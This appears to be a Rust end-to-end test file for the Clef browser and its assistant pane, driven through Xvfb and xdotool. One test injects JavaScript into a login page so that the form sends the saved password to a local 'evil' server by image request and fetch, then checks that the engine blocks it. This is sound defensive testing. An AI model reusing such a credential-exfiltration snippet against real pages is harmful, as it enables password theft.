//! The real window under Xvfb: it opens, loads a local page, and a screenshot shows it.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use clef_tests::clef_bin;
use clef_tests::server::{Route, TestServer};

use crate::check;
use crate::harness::Ctx;

const PAGE: &str = "<!doctype html><title>Window smoke</title>\
    <body style=\"margin:0;background:#ff00ff\"><h1>Clef window</h1></body>";
const MAGENTA: [u8; 4] = [255, 0, 255, 255];

pub(crate) fn have(program: &str) -> bool {
    Command::new("which")
        .arg(program)
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// Whether every program is installed; outside CI a missing one skips the test (said aloud),
/// in CI it fails it.
pub(crate) fn tools_present(programs: &[&str]) -> anyhow::Result<bool> {
    let missing: Vec<&str> = programs.iter().copied().filter(|p| !have(p)).collect();
    if missing.is_empty() {
        return Ok(true);
    }
    let message = format!("{missing:?} needed (run scripts/setup.sh)");
    check!(std::env::var("CI").as_deref() != Ok("true"), "{message}");
    println!("    skipped: {message}");
    Ok(false)
}

/// Stops the child when the test ends, however it ends.
pub(crate) struct Killed(pub(crate) Child);

impl Drop for Killed {
    fn drop(&mut self) {
        clef_tests::stop_gracefully(&mut self.0);
    }
}

pub(crate) fn start_xvfb() -> anyhow::Result<(Killed, String)> {
    let number = (90..140)
        .find(|n| {
            !Path::new(&format!("/tmp/.X11-unix/X{n}")).exists()
                && !Path::new(&format!("/tmp/.X{n}-lock")).exists()
        })
        .ok_or_else(|| anyhow::anyhow!("no free X display number"))?;
    let display = format!(":{number}");
    let xvfb = Command::new("Xvfb")
        .args([
            display.as_str(),
            "-screen",
            "0",
            "1280x800x24",
            "-nolisten",
            "tcp",
            // Without it the server resets when its last client leaves — the readiness probe
            // below is a client — and a window connecting during the reset fails ("Failed to
            // open connection to X server").
            "-noreset",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()?;
    let guard = Killed(xvfb);
    let deadline = Instant::now() + Duration::from_secs(10);
    // Ready when it accepts a connection: the socket's file can exist before Xvfb listens (a
    // window started then fails with "Failed to open connection to X server").
    let socket = format!("/tmp/.X11-unix/X{number}");
    while std::os::unix::net::UnixStream::connect(&socket).is_err() {
        check!(Instant::now() < deadline, "Xvfb did not start");
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok((guard, display))
}

pub fn shows_a_page_under_xvfb(_: &Ctx) -> anyhow::Result<()> {
    if !tools_present(&["Xvfb", "import"])? {
        return Ok(());
    }
    let dir = std::env::temp_dir().join(format!("clef-window-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let page = dir.join("page.html");
    std::fs::write(&page, PAGE)?;
    let shot = dir.join("shot.png");

    let (_xvfb, display) = start_xvfb()?;
    let mut command = Command::new(clef_bin());
    command.arg(&page);
    let _clef = clef_window(command, &display)?;
    let image = wait_for_screen(
        &display,
        &shot,
        Duration::from_secs(30),
        "the page did not show",
        |image| image.get_pixel(600, 500).0 == MAGENTA,
    )?;
    let _ = std::fs::remove_dir_all(&dir);
    check!(
        image.dimensions() == (1280, 800),
        "screen size {:?}",
        image.dimensions()
    );
    // The page fills the content area, below the chrome, with magenta.
    let page_pixel = image.get_pixel(600, 500).0;
    check!(
        page_pixel == MAGENTA,
        "page area shows {page_pixel:?}, not the page"
    );
    // The chrome strip on top is drawn by Clef's own UI page.
    let chrome_pixel = image.get_pixel(5, 40).0;
    check!(
        chrome_pixel != MAGENTA && chrome_pixel != [0, 0, 0, 255],
        "chrome area shows {chrome_pixel:?}"
    );
    Ok(())
}

/// The page reports each answer in its title, which Clef puts in the window's title.
const ASK_PAGE: &str = r#"<!doctype html><title>waiting</title>
<body style="margin:0;font:20px DejaVu Sans,sans-serif">
<select id=s style="position:absolute;left:20px;top:20px;width:200px;font-size:20px"
  onchange="document.title = 'picked ' + this.value">
<option>Apple</option><option>Pear</option><optgroup label=Citrus><option>Lime</option></optgroup></select>
<button style="position:absolute;left:300px;top:20px;font-size:20px"
  onclick="document.title = 'answered ' + confirm('Delete it?') + ' ' + prompt('Your name?', 'bob')">Ask</button>
</body>"#;

pub(crate) fn xdotool(display: &str, args: &[&str]) -> anyhow::Result<bool> {
    let status = Command::new("xdotool")
        .args(args)
        .env("DISPLAY", display)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()?;
    Ok(status.success())
}

/// xdotool's standard output, or `None` when it fails (no such window, a window that went
/// away during a search).
fn xdotool_output(display: &str, args: &[&str]) -> anyhow::Result<Option<String>> {
    let output = Command::new("xdotool")
        .args(args)
        .env("DISPLAY", display)
        .stderr(Stdio::null())
        .output()?;
    Ok(output
        .status
        .success()
        .then(|| String::from_utf8_lossy(&output.stdout).trim().to_owned()))
}

/// Where the window started on `display` writes its log.
fn window_log(display: &str) -> PathBuf {
    std::env::temp_dir().join(format!(
        "clef-window-{}-{}.log",
        std::process::id(),
        display.trim_start_matches(':')
    ))
}

/// The last lines of what the window started on `display` logged, for a failing test to show.
pub(crate) fn log_tail(display: &str) -> String {
    let log = std::fs::read_to_string(window_log(display)).unwrap_or_default();
    let lines: Vec<&str> = log
        .lines()
        .filter(|line| !line.contains("XDG_RUNTIME_DIR"))
        .collect();
    lines[lines.len().saturating_sub(20)..].join("\n")
}

/// Wait until a window titled `title` exists. A window with a model loads it beside Servo's
/// first paint on two cores, so the first title may take a while; on failure the test says
/// which windows exist and what the browser logged.
pub(crate) fn wait_for_title(display: &str, title: &str) -> anyhow::Result<()> {
    let deadline = Instant::now() + Duration::from_secs(45);
    while xdotool_output(display, &["search", "--name", title])?.is_none() {
        if Instant::now() >= deadline {
            let windows =
                xdotool_output(display, &["search", "--name", "", "getwindowname", "%@"])?
                    .unwrap_or_default();
            check!(
                false,
                "no window titled {title:?}; windows: {windows:?}; the browser's log ends:\n{}",
                log_tail(display)
            );
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(())
}

/// Start a window on `display`: `command` runs `clef` (directly, or through `unshare` or
/// `ip netns exec`) with its arguments already given. Its log goes to a file the waits read.
pub(crate) fn clef_window(mut command: Command, display: &str) -> anyhow::Result<Killed> {
    let log = std::fs::File::create(window_log(display))?;
    // A profile of its own unless the test chose one: no tabs restored from another test.
    let has_data_home = command.get_envs().any(|(name, _)| name == "XDG_DATA_HOME");
    if !has_data_home {
        let data = std::env::temp_dir().join(format!(
            "clef-window-data-{}-{}",
            std::process::id(),
            display.trim_start_matches(':')
        ));
        let _ = std::fs::remove_dir_all(&data);
        command.env("XDG_DATA_HOME", data);
    }
    // Clef's own steps in the log, so that a failing wait can say what the window did.
    let has_log_filter = command.get_envs().any(|(name, _)| name == "CLEF_LOG")
        || std::env::var_os("CLEF_LOG").is_some();
    if !has_log_filter {
        command.env(
            "CLEF_LOG",
            "error,clef=info,clef_browser=info,clef_agent=info",
        );
    }
    Ok(Killed(
        command
            .env("DISPLAY", display)
            .env_remove("WAYLAND_DISPLAY")
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()?,
    ))
}

/// Wait for the window titled `title` and give it the keyboard (Xvfb has no window manager).
pub(crate) fn focus_window(display: &str, title: &str) -> anyhow::Result<()> {
    wait_for_title(display, title)?;
    let id = xdotool_output(display, &["search", "--name", title])?
        .and_then(|ids| ids.lines().next().map(str::to_owned))
        .unwrap_or_default();
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        xdotool(display, &["windowfocus", "--sync", &id])?;
        if xdotool_output(display, &["getwindowfocus"])?.as_deref() == Some(id.as_str()) {
            return Ok(());
        }
        check!(
            Instant::now() < deadline,
            "the window {title:?} never took focus"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Click the toolbar's Assistant button and give the pane time to show.
pub(crate) fn open_pane(display: &str) -> anyhow::Result<()> {
    xdotool(display, &["mousemove", "1233", "59", "click", "1"])?;
    std::thread::sleep(Duration::from_millis(2500));
    Ok(())
}

/// The X screen, saved at `shot`; `None` while it cannot be grabbed.
pub(crate) fn grab_screen(display: &str, shot: &Path) -> anyhow::Result<Option<image::RgbaImage>> {
    let grabbed = Command::new("import")
        .args(["-display", display, "-window", "root"])
        .arg(shot)
        .stderr(Stdio::null())
        .status()?;
    Ok(grabbed
        .success()
        .then(|| image::open(shot).ok().map(|image| image.to_rgba8()))
        .flatten())
}

/// Grab the screen until it `shows` what is awaited, or fail after `timeout` saying `what`.
pub(crate) fn wait_for_screen(
    display: &str,
    shot: &Path,
    timeout: Duration,
    what: &str,
    shows: impl Fn(&image::RgbaImage) -> bool,
) -> anyhow::Result<image::RgbaImage> {
    let deadline = Instant::now() + timeout;
    loop {
        std::thread::sleep(Duration::from_millis(300));
        if let Some(image) = grab_screen(display, shot)?
            && shows(&image)
        {
            return Ok(image);
        }
        check!(
            Instant::now() < deadline,
            "{what} within {timeout:?} (last screen: {})",
            shot.display()
        );
    }
}

pub fn select_and_dialogs_are_answered_in_the_pane(_: &Ctx) -> anyhow::Result<()> {
    if !tools_present(&["Xvfb", "xdotool"])? {
        return Ok(());
    }
    let dir = std::env::temp_dir().join(format!("clef-ask-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let page = dir.join("ask.html");
    std::fs::write(&page, ASK_PAGE)?;
    let (_xvfb, display) = start_xvfb()?;
    let mut command = Command::new(clef_bin());
    command.arg(&page);
    let _clef = clef_window(command, &display)?;
    focus_window(&display, "waiting")?;

    // The <select> opens its options over the top of the pane (right, from x=920); "Lime" is
    // the third.
    // Under load the list may reach the pane after the click on its place: open it and pick
    // again (an option click that misses lands on the pane's empty area).
    for _ in 0..3 {
        xdotool(&display, &["mousemove", "120", "119", "click", "1"])?;
        std::thread::sleep(Duration::from_millis(1200));
        xdotool(&display, &["mousemove", "1000", "261", "click", "1"])?;
        let deadline = Instant::now() + Duration::from_secs(4);
        while Instant::now() < deadline
            && xdotool_output(&display, &["search", "--name", "picked Lime"])?.is_none()
        {
            std::thread::sleep(Duration::from_millis(200));
        }
        if xdotool_output(&display, &["search", "--name", "picked Lime"])?.is_some() {
            break;
        }
    }
    wait_for_title(&display, "picked Lime")?;

    // confirm() then prompt(): OK has the keyboard, then the prompt's field does.
    xdotool(&display, &["mousemove", "330", "119", "click", "1"])?;
    std::thread::sleep(Duration::from_millis(800));
    xdotool(&display, &["key", "Return"])?;
    std::thread::sleep(Duration::from_millis(800));
    xdotool(&display, &["key", "ctrl+a"])?;
    xdotool(&display, &["type", "--delay", "30", "Ada"])?;
    xdotool(&display, &["key", "Return"])?;
    wait_for_title(&display, "answered true Ada")?;
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}

/// A server that never answers must not wedge the tab: a new address still loads, and Esc on a
/// second hung navigation returns to the page on screen.
pub fn hung_navigation_does_not_wedge_the_tab(_: &Ctx) -> anyhow::Result<()> {
    if !tools_present(&["Xvfb", "xdotool"])? {
        return Ok(());
    }
    let server = TestServer::start([
        ("/start", Route::html("<title>start page</title>start")),
        ("/hang", Route::Hang(Duration::from_secs(60))),
        ("/next", Route::html("<title>next page</title>next")),
    ])?;
    let (_xvfb, display) = start_xvfb()?;
    let mut command = Command::new(clef_bin());
    command.arg(server.url("/start"));
    let _clef = clef_window(command, &display)?;
    focus_window(&display, "start page")?;
    let go = |address: &str| -> anyhow::Result<()> {
        xdotool(&display, &["key", "ctrl+l"])?;
        std::thread::sleep(Duration::from_millis(300));
        xdotool(&display, &["type", "--delay", "10", address])?;
        xdotool(&display, &["key", "Return"])?;
        std::thread::sleep(Duration::from_millis(1000));
        Ok(())
    };
    go(&server.url("/hang"))?;
    check!(
        server.hits("/hang") == 1,
        "the hanging page was not requested"
    );
    go(&server.url("/next"))?;
    wait_for_title(&display, "next page")?;
    go(&server.url("/hang"))?;
    // The page has the keyboard again after navigating; Esc stops the hung load.
    xdotool(&display, &["key", "Escape"])?;
    // The title never left "next page" (the hung load had not committed): what shows that Stop
    // returned to the page on screen is the page asked for again.
    let deadline = Instant::now() + Duration::from_secs(15);
    while server.hits("/next") < 2 {
        check!(
            Instant::now() < deadline,
            "Stop did not return to the page on screen"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    wait_for_title(&display, "next page")?;
    check!(
        server.hits("/next") == 2,
        "the page on screen was asked for more than once after Stop: {}",
        server.hits("/next")
    );
    Ok(())
}

/// A task from the pane: it logs in with the saved password only after the user allows the
/// risky step in the pane. The page's title reports the outcome in the window's title.
pub fn pane_carries_out_a_task_after_approval(_: &Ctx) -> anyhow::Result<()> {
    if !tools_present(&["Xvfb", "xdotool"])? {
        return Ok(());
    }
    let Some(model) = clef_tests::test_model()? else {
        println!("    skipped: test model missing (run scripts/setup.sh)");
        return Ok(());
    };
    let secret = format!("Win-{}-pw", std::process::id());
    let reversed: String = secret.chars().rev().collect();
    let login = clef_tests::fixtures::LOGIN.replace(
        "atob('__SECRET_B64__')",
        &format!("'{reversed}'.split('').reverse().join('')"),
    );
    // The page also tries to send the password elsewhere as it is submitted: the engine's
    // checks on the pane's tab must stop both ways.
    let evil = TestServer::start([("/*", Route::html("<title>other</title>"))])?;
    let exfiltrate = format!(
        "event.preventDefault(); new Image().src = 'http://{0}/p?' + this.pass.value; \
         fetch('http://{0}/c', {{method: 'POST', body: this.pass.value, mode: 'no-cors'}});",
        evil.addr()
    );
    let login = login.replacen("event.preventDefault();", &exfiltrate, 1);
    let server = TestServer::start([("/login", Route::html(login))])?;
    let origin = format!("http://{}", server.addr());
    // The window's profile, its passwords file created and unlocked for the session first.
    let data = std::env::temp_dir().join(format!("clef-pane-task-data-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&data);
    let mut vault = clef_browser::assistant::SecretsVault::open(
        Default::default(),
        &data.join("clef/profile"),
        clef_profile::secrets::StoreChoice::File,
    );
    vault
        .secrets_mut()
        .map_err(|error| anyhow::anyhow!("{error}"))?
        .unlock(crate::acting::TEST_PASSPHRASE)?;
    let _locked = crate::acting::LockOnDrop(data.join("clef/profile"));
    vault.save(&origin, clef_agent::forms::FieldKind::Password, &secret)?;
    let (_xvfb, display) = start_xvfb()?;
    let mut command = Command::new(clef_bin());
    command
        .env("XDG_DATA_HOME", &data)
        .env_remove("DBUS_SESSION_BUS_ADDRESS")
        .arg(server.url("/login"))
        .args(["--model", &model.to_string_lossy()]);
    let _clef = clef_window(command, &display)?;
    focus_window(&display, "Members login")?;
    // Open the pane, tick "do it on this page" (the third box, after "all open tabs" and "my
    // history"), type the task.
    open_pane(&display)?;
    xdotool(&display, &["mousemove", "1141", "778", "click", "1"])?;
    xdotool(&display, &["mousemove", "1000", "750", "click", "1"])?;
    std::thread::sleep(Duration::from_millis(300));
    xdotool(
        &display,
        &[
            "type",
            "--delay",
            "15",
            "log in as alice with my saved password",
        ],
    )?;
    xdotool(&display, &["key", "Return"])?;
    // The password's submit waits for the user: the pane asks, and it is not logged in yet.
    // Where the question shows depends on how many steps came before it.
    let shot = data.join("approval.png");
    let asked = wait_for_screen(
        &display,
        &shot,
        Duration::from_secs(60),
        "the pane never asked to allow the submit",
        |image| colour_box(image, APPROVAL_BORDER, PANE_WIDTH).is_some(),
    )?;
    check!(
        !xdotool(&display, &["search", "--name", "Welcome"])?,
        "logged in before the user allowed it"
    );
    // Refuse has the keyboard focus, as the safe default; the user clicks Allow, the first
    // button on the question's last line.
    let (left, _, _, bottom) = colour_box(&asked, APPROVAL_BORDER, PANE_WIDTH)
        .ok_or_else(|| anyhow::anyhow!("the approval went away"))?;
    let (x, y) = (
        (left + 30).to_string(),
        bottom.saturating_sub(20).to_string(),
    );
    xdotool(&display, &["mousemove", &x, &y, "click", "1"])?;
    wait_for_title(&display, "Welcome")?;
    std::thread::sleep(Duration::from_millis(500));
    check!(
        evil.connections() == 0,
        "the page sent the password elsewhere from the pane's tab: {:?}",
        evil.targets()
    );
    vault.forget(&origin, clef_agent::forms::FieldKind::Password)?;
    Ok(())
}

const SAVED_PAGE: &str = "<!doctype html><title>Loading</title><body><h1>River notes</h1>\
    <p id=note></p><script>document.title = 'Saved river page'; \
    document.getElementById('note').textContent = 'Written by a script.';</script>";
/// The colour of the toolbar's "Offline: the copy saved …" label.
const SAVED_LABEL: [u8; 3] = [0xf0, 0xc6, 0x74];

pub fn saved_copy_opens_offline(_: &Ctx) -> anyhow::Result<()> {
    if !tools_present(&["Xvfb", "xdotool", "import", "unshare"])? {
        return Ok(());
    }
    let dir = std::env::temp_dir().join(format!("clef-saved-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir)?;
    let cache = dir.join("cache");
    let server = TestServer::start([("/river", Route::html(SAVED_PAGE))])?;
    let url = server.url("/river");
    let (_xvfb, display) = start_xvfb()?;
    let window = |offline: bool| -> anyhow::Result<Killed> {
        let mut command = if offline {
            let mut command = Command::new("unshare");
            command.arg("-n").arg(clef_bin());
            command
        } else {
            Command::new(clef_bin())
        };
        command.arg(&url).env("XDG_CACHE_HOME", &cache);
        clef_window(command, &display)
    };
    {
        let _online = window(false)?;
        wait_for_title(&display, "Saved river page")?;
        let deadline = Instant::now() + Duration::from_secs(10);
        while !std::fs::read_dir(cache.join("clef/pages")).is_ok_and(|entries| {
            entries
                .flatten()
                .any(|entry| entry.path().extension().is_some_and(|ext| ext == "json"))
        }) {
            check!(Instant::now() < deadline, "no copy was kept");
            std::thread::sleep(Duration::from_millis(100));
        }
    }
    drop(server);
    // No network at all now: the window shows the copy, labelled as one.
    let _offline = window(true)?;
    wait_for_title(&display, "Saved river page")?;
    wait_for_screen(
        &display,
        &dir.join("saved.png"),
        Duration::from_secs(10),
        "the toolbar does not say the page is a saved copy",
        |image| {
            (36..84).any(|y| {
                (0..image.width()).any(|x| {
                    let pixel = image.get_pixel(x, y).0;
                    pixel[..3]
                        .iter()
                        .zip(SAVED_LABEL)
                        .all(|(a, b)| a.abs_diff(b) < 24)
                })
            })
        },
    )?;
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}

/// The badge colour of "Managed by your organization" and of each control's "managed" tag.
const MANAGED_BADGE: [u8; 3] = [0x7a, 0x4f, 0xd6];
/// The pane's error text colour.
const ERROR_TEXT: [u8; 3] = [0xff, 0x8f, 0x8f];

/// The border colour of the pane's "Allow this step?" question.
pub(crate) const APPROVAL_BORDER: [u8; 3] = [0xf2, 0xb7, 0x05];
/// How far the pane reaches in from the window's right edge.
pub(crate) const PANE_WIDTH: u32 = 360;

/// The pixels of `colour` (within a small tolerance) in the right `width` pixels of `image`.
fn pixels_coloured(
    image: &image::RgbaImage,
    colour: [u8; 3],
    width: u32,
) -> impl Iterator<Item = (u32, u32)> + '_ {
    image
        .enumerate_pixels()
        .filter(move |(x, _, pixel)| {
            *x >= image.width().saturating_sub(width)
                && pixel.0[..3]
                    .iter()
                    .zip(colour)
                    .all(|(a, b)| a.abs_diff(b) < 12)
        })
        .map(|(x, y, _)| (x, y))
}

/// The box (left, top, right, bottom) around the pixels of `colour` in the right `width` pixels
/// of `image`, if there are any.
pub(crate) fn colour_box(
    image: &image::RgbaImage,
    colour: [u8; 3],
    width: u32,
) -> Option<(u32, u32, u32, u32)> {
    pixels_coloured(image, colour, width).fold(None, |found, (x, y)| {
        Some(match found {
            None => (x, y, x, y),
            Some((left, top, right, bottom)) => {
                (left.min(x), top.min(y), right.max(x), bottom.max(y))
            }
        })
    })
}

/// How many pixels of `colour` (within a small tolerance) the right `width` pixels of `image` hold.
pub(crate) fn pixels_of(image: &image::RgbaImage, colour: [u8; 3], width: u32) -> usize {
    pixels_coloured(image, colour, width).count()
}

pub fn pane_shows_what_the_organization_manages(_: &Ctx) -> anyhow::Result<()> {
    if !tools_present(&["Xvfb", "xdotool", "import"])? {
        return Ok(());
    }
    let Some(model) = clef_tests::test_model()? else {
        println!("    skipped: test model missing (run scripts/setup.sh)");
        return Ok(());
    };
    let dir = std::env::temp_dir().join(format!("clef-managed-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let policy = dir.join("policies.json");
    std::fs::write(
        &policy,
        r#"{"policies": {"Features": {"Summary": false, "AgentActions": false}}}"#,
    )?;
    let page = dir.join("page.html");
    std::fs::write(&page, clef_tests::fixtures::DANUBE)?;
    let (_xvfb, display) = start_xvfb()?;
    let mut command = Command::new(clef_bin());
    command
        .arg(&page)
        .args(["--model", &model.to_string_lossy()])
        .env("CLEF_POLICIES", &policy);
    let _clef = clef_window(command, &display)?;
    focus_window(&display, "Danube")?;
    open_pane(&display)?;
    let shot = dir.join("managed.png");
    let grab = || -> anyhow::Result<image::RgbaImage> {
        grab_screen(&display, &shot)?.ok_or_else(|| anyhow::anyhow!("could not grab the X screen"))
    };
    // The badge and two tags (Summarize, "do it on this page"): well over one badge's pixels.
    // Under load the pane may be told a moment after it opens: look again for a while.
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut badge_pixels = pixels_of(&grab()?, MANAGED_BADGE, 400);
    while badge_pixels <= 2_000 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(500));
        badge_pixels = pixels_of(&grab()?, MANAGED_BADGE, 400);
    }
    check!(
        badge_pixels > 2_000,
        "the pane does not show what is managed ({badge_pixels} badge pixels; {})",
        shot.display()
    );
    // The turned-off Summarize button does nothing: no "turned off" error appears either.
    for (x, y) in [(998, 208), (998, 236)] {
        xdotool(
            &display,
            &["mousemove", &x.to_string(), &y.to_string(), "click", "1"],
        )?;
    }
    std::thread::sleep(Duration::from_millis(1500));
    let image = grab()?;
    check!(
        pixels_of(&image, ERROR_TEXT, 400) == 0
            && !xdotool(&display, &["search", "--name", "Summary"])?,
        "the turned-off Summarize button still answered ({})",
        shot.display()
    );
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}

/// A colour input and a file input: their pickers are answered in the pane.
const PICKER_PAGE: &str = r##"<!doctype html><title>waiting</title>
<body style="margin:0;font:20px DejaVu Sans,sans-serif">
<input id=c type=color value="#112233" style="position:absolute;left:20px;top:20px;width:100px;height:40px">
<input id=f type=file style="position:absolute;left:300px;top:20px;font-size:20px">
<script>
// Servo 0.7 sets a picked colour's value without firing input or change; Clef fires them.
let changed = "";
document.getElementById("c").addEventListener("change", (event) => { changed = " changed to " + event.target.value; });
setInterval(() => {
  const file = document.getElementById("f").files[0];
  document.title = "colour " + document.getElementById("c").value + changed +
    (file ? " file " + file.name + " " + file.size : "");
}, 200);
</script>
</body>"##;

pub fn colour_and_file_pickers_are_answered_in_the_pane(_: &Ctx) -> anyhow::Result<()> {
    if !tools_present(&["Xvfb", "xdotool"])? {
        return Ok(());
    }
    let dir = std::env::temp_dir().join(format!("clef-pickers-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let page = dir.join("pickers.html");
    std::fs::write(&page, PICKER_PAGE)?;
    let upload = dir.join("hello.txt");
    std::fs::write(&upload, "hello")?;
    let (_xvfb, display) = start_xvfb()?;
    let mut command = Command::new(clef_bin());
    command.arg(&page);
    let _clef = clef_window(command, &display)?;
    focus_window(&display, "colour #112233")?;
    // The colour input (the page starts below the 84-pixel chrome): the pane's field takes
    // the keyboard with the current colour in it.
    click_until_the_pane_asks(&display, "70", "124")?;
    xdotool(&display, &["key", "ctrl+a"])?;
    xdotool(&display, &["type", "--delay", "30", "#e53935"])?;
    xdotool(&display, &["key", "Return"])?;
    wait_for_title(&display, "colour #e53935 changed to #e53935")?;
    // The file input: a path typed in the pane; the page gets the file's name and content.
    click_until_the_pane_asks(&display, "360", "124")?;
    xdotool(
        &display,
        &["type", "--delay", "10", &upload.to_string_lossy()],
    )?;
    xdotool(&display, &["key", "Return"])?;
    wait_for_title(
        &display,
        "colour #e53935 changed to #e53935 file hello.txt 5",
    )?;
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}

/// The pane's background (`pane.html`).
const PANE_BACKGROUND: [u8; 3] = [0x15, 0x19, 0x22];

/// Click a page control at (`x`, `y`) until the pane opens to ask about it: a click that lands
/// while the page is still busy (a loaded machine) is lost, and a fixed wait is a guess.
fn click_until_the_pane_asks(display: &str, x: &str, y: &str) -> anyhow::Result<()> {
    let shot = std::env::temp_dir().join(format!("clef-pane-asks-{}.png", std::process::id()));
    // Most of the pane's area is its background once it is open.
    let open = |image: &image::RgbaImage| {
        pixels_of(image, PANE_BACKGROUND, PANE_WIDTH) > (PANE_WIDTH * image.height() / 2) as usize
    };
    for _ in 0..3 {
        xdotool(display, &["mousemove", x, y, "click", "1"])?;
        if wait_for_screen(
            display,
            &shot,
            Duration::from_secs(10),
            "the pane asked",
            open,
        )
        .is_ok()
        {
            // The question's field takes the keyboard once the pane has drawn it.
            std::thread::sleep(Duration::from_millis(300));
            return Ok(());
        }
    }
    anyhow::bail!(
        "the pane never asked about the control at {x},{y} (last screen: {}); the window's log:\n{}",
        shot.display(),
        log_tail(display)
    )
}

/// A right click opens the page's context menu in the pane; its entries act on the page.
const MENU_PAGE: &str = r#"<!doctype html><title>waiting</title>
<body style="margin:20px;font:24px DejaVu Sans,sans-serif"><p>Sleeper <b id=w>trains</b> are back.</p>
<script>
const range = document.createRange();
range.selectNodeContents(document.getElementById("w"));
getSelection().addRange(range);
setInterval(() => { document.title = "selected " + getSelection().toString().trim().length; }, 200);
</script></body>"#;

pub fn context_menu_is_answered_in_the_pane(_: &Ctx) -> anyhow::Result<()> {
    if !tools_present(&["Xvfb", "xdotool"])? {
        return Ok(());
    }
    let dir = std::env::temp_dir().join(format!("clef-menu-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let page = dir.join("menu.html");
    std::fs::write(&page, MENU_PAGE)?;
    let (_xvfb, display) = start_xvfb()?;
    let mut command = Command::new(clef_bin());
    command.arg(&page);
    let _clef = clef_window(command, &display)?;
    focus_window(&display, "selected 6")?;
    // Right click on the page: Servo's entries (Cut, Copy, Paste, Select All, …) and Clef's.
    xdotool(&display, &["mousemove", "400", "300", "click", "3"])?;
    std::thread::sleep(Duration::from_millis(1500));
    // "Select All", the fourth entry.
    xdotool(&display, &["mousemove", "1080", "273", "click", "1"])?;
    wait_for_title(&display, "selected 2[0-9]")?;
    let _ = std::fs::remove_dir_all(&dir);
    Ok(())
}
